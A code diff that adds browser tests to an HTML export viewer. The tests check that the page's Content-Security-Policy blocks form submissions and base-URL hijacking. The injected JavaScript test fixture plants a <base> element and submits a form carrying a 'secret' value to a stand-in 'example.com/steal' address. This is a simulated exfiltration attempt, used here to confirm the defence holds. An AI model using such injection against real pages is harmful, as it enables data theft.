@@ -417,3 +417,61 @@ def test_export_page_follows_the_readers_colour_scheme(watched: Any, tmp_path: P
     lum = [sum(int(v) for v in c[c.index("(") + 1:c.index(")")].split(",")[:3]) for c in (bg, text)]
     assert (lum[0] < 150) is dark and (lum[1] > 450) is dark, (bg, text)
     w.assert_clean()
+
+
+_NAVIGATE = """async () => {
+    const seen = [];
+    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+    const base = document.createElement('base');
+    base.href = 'https://example.com/planted/';
+    document.head.prepend(base);
+    const link = document.createElement('a');
+    link.href = 'relative.html';
+    const form = document.createElement('form');
+    form.action = 'https://example.com/steal';
+    form.method = 'get';
+    const field = document.createElement('input');
+    field.name = 'graph';
+    field.value = 'secret';
+    form.append(field);
+    document.body.append(form);
+    form.submit();
+    const button = document.createElement('button');
+    form.append(button);
+    button.click();  // a submission the user would make
+    await new Promise((r) => setTimeout(r, 300));
+    return {seen, baseURI: document.baseURI, link: link.href, url: location.href};
+}"""
+
+
+@pytest.mark.parametrize("charts", [False, True], ids=["viewer", "with-charts"])
+def test_csp_blocks_form_submission_and_base_changes(watched: Any, tmp_path: Path, charts: bool) -> None:
+    """default-src 'none' stops fetches but not navigation: a form submitted to another site, or a <base> element
+    that points every relative URL elsewhere, went through before. With form-action 'none' and base-uri 'none' the
+    page stays put, the form sends nothing and the base is ignored; the page still draws with zero requests."""
+    figs = []
+    if charts:
+        go = pytest.importorskip("plotly.graph_objects")
+        figs = [go.Figure(go.Bar(x=["a", "b"], y=[1, 3]))]
+    w = open_export(watched, tmp_path, fx.mlp(2), charts=figs)
+    page_url = w.page.url
+    assert api(w.page, "a.nodeCount()") > 0
+    out = w.page.evaluate(_NAVIGATE)
+    w.page.wait_for_timeout(300)
+    assert w.page.url == page_url == out["url"], "the form navigated the page"
+    assert w.requests == [], f"the form was sent: {w.requests}"
+    assert out["baseURI"] == page_url and out["link"].startswith("file:"), out
+    assert "form-action" in out["seen"] and "base-uri" in out["seen"], out["seen"]
+    assert api(w.page, "a.nodeCount()") > 0  # still the viewer
+    w.assert_clean()
+
+
+def test_csp_holds_only_what_a_meta_policy_can() -> None:
+    """Directives a <meta> policy cannot carry are not written (browsers ignore them there); navigate-to was
+    removed from the specification."""
+    for html in (render_html(fx.single()), render_html(fx.single(), charts=["<p>chart</p>"])):
+        csp = html.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
+        directives = {d.split()[0]: d.split()[1:] for d in csp.split("; ")}
+        assert directives["form-action"] == ["'none'"] and directives["base-uri"] == ["'none'"]
+        assert directives["default-src"] == ["'none'"]
+        assert not {"frame-ancestors", "sandbox", "report-uri", "report-to", "navigate-to"} & set(directives)
